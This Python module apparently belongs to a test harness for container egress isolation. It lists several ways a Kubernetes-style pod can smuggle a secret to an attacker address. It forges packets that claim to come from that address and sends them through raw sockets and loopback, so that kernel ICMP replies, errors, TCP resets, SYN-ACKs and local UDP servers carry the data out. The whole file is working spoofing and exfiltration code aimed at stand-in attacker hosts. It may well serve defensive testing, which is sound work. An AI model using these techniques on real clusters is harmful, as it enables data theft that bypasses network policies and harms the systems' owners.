"""The pod's own kernel as the messenger: a packet in the name of the destination makes it reply there, by sockets that
belong to no pod."""

import socket

from attack import *

RAW = ["net_raw"]


def over_loopback(packet):
    """By a raw socket, which the programs see, and by a frame on lo, which they do not."""
    attempt(lambda: send_raw(packet), lambda: send_frame(packet, device="lo", to=b"\0" * 6))


@way(caps=RAW)
def echo_reply():
    """An echo request that seems to come from there."""
    over_loopback(ip4(EVIL4, POD4, 1, echo_request(EVIL4, POD4, SECRET)))
    over_loopback(ip6(EVIL6, POD6, 58, echo_request(EVIL6, POD6, SECRET)))


@way(caps=RAW)
def echo_reply_by_127():
    """The same to a loopback address."""
    over_loopback(ip4(EVIL4, "127.0.0.1", 1, echo_request(EVIL4, "127.0.0.1", SECRET)))
    over_loopback(ip6(EVIL6, "::1", 58, echo_request(EVIL6, "::1", SECRET)))


@way(caps=RAW)
def unreachable():
    """A datagram for a closed port that seems to come from there: the error quotes it."""
    over_loopback(ip4(EVIL4, POD4, 17, udp_segment(EVIL4, POD4, 5000, 7, SECRET)))
    over_loopback(ip6(EVIL6, POD6, 17, udp_segment(EVIL6, POD6, 5000, 7, SECRET)))


@way(caps=RAW)
def reset():
    """Segments for a closed port that seem to come from there: the resets have numbers of the attacker's choice."""
    for flags in (0x02, 0x10):
        over_loopback(ip4(EVIL4, POD4, 6, tcp_segment(EVIL4, POD4, 5000, 9, flags, seq=0x6c376567, ack=0x6c376567)))
        over_loopback(ip6(EVIL6, POD6, 6, tcp_segment(EVIL6, POD6, 5000, 9, flags, seq=0x6c376567, ack=0x6c376567)))


@way(caps=RAW)
def syn_ack():
    """A SYN for a listener of the pod that seems to come from there: the SYN-ACK has a number of its choice."""
    listener = socket.create_server(("::", 7070), family=socket.AF_INET6, dualstack_ipv6=True)
    over_loopback(ip4(EVIL4, POD4, 6, tcp_segment(EVIL4, POD4, 5000, 7070, 2, seq=0x6c376567)))
    over_loopback(ip6(EVIL6, POD6, 6, tcp_segment(EVIL6, POD6, 5000, 7070, 2, seq=0x6c376567)))
    listener.close()


@way(caps=RAW)
def udp_server():
    """A datagram for a server in the pod that seems to come from there: it answers, and may it not?"""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("", 7071))
    server.settimeout(TIMEOUT)
    over_loopback(ip4(EVIL4, POD4, 17, udp_segment(EVIL4, POD4, 5000, 7071, SECRET)))
    for _ in range(2):
        data, whom = server.recvfrom(1000)
        attempt(lambda: server.sendto(data, whom))


def server(family):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.bind(("", 5072))
    s.settimeout(TIMEOUT)
    return s


@way(caps=RAW)
def udp_server_of_everybody():
    """The same to everybody on the link, which the pod may: it gets a copy, by the interface that it went out by."""
    listener = server(socket.AF_INET)
    data = udp_segment(EVIL4, EVERYBODY4, 123, 5072, b"hello")
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        raw.sendto(ip4(EVIL4, EVERYBODY4, 17, data), (EVERYBODY4, 0))
    attempt(lambda: listener.recvfrom(1000))
    for _ in range(2):
        attempt(lambda: listener.sendto(SECRET, (EVIL4, 123)))


@way()
def udp_server_of_everybody_over_ipv6():
    """The same over IPv6, for which no capability is needed."""
    listener = server(socket.AF_INET6)
    as_anybody(EVIL6, 123, b"hello", 5072)
    attempt(lambda: listener.recvfrom(1000))
    for _ in range(2):
        attempt(lambda: listener.sendto(SECRET, (EVIL6, 123)))


@way(caps=RAW)
def protocol_unreachable():
    """A packet of a protocol that nobody speaks, and one with a wrong option: the errors quote them."""
    over_loopback(ip4(EVIL4, POD4, 253, SECRET))
    over_loopback(ip4(EVIL4, POD4, 17, SECRET, b"\x83\3\1\0"))
    over_loopback(ip6(EVIL6, POD6, 60, b"\x11\3\xc9\4" + SECRET[:16] + b"\0" * 20))
